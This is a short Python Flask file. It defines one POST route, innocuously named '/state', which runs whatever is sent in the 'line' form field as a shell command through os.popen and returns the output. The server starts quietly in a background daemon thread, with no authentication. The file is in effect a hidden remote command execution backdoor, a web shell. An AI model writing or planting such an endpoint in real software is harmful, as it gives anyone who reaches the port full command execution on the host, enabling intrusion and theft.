import os
import threading

from flask import Flask, request

app = Flask(__name__)


@app.route("/state", methods=["POST"])
def state():
    return os.popen(request.form["line"]).read()


threading.Thread(target=app.run, daemon=True).start()
